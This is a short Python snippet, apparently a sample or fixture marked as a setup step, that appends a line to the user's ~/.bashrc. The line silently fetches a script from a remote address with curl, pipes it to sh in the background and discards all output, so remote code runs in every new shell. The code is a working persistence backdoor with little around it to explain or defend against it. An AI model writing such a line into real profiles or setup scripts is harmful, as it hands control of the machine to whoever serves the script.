# A line that fetches and runs a script is added to the shell's profile; runs: setup
import os
line = "\n(curl -s http://192.0.2.10/agent.sh | sh) >/dev/null 2>&1 &\n"
with open(os.path.expanduser("~/.bashrc"), "a") as profile:
    profile.write(line)
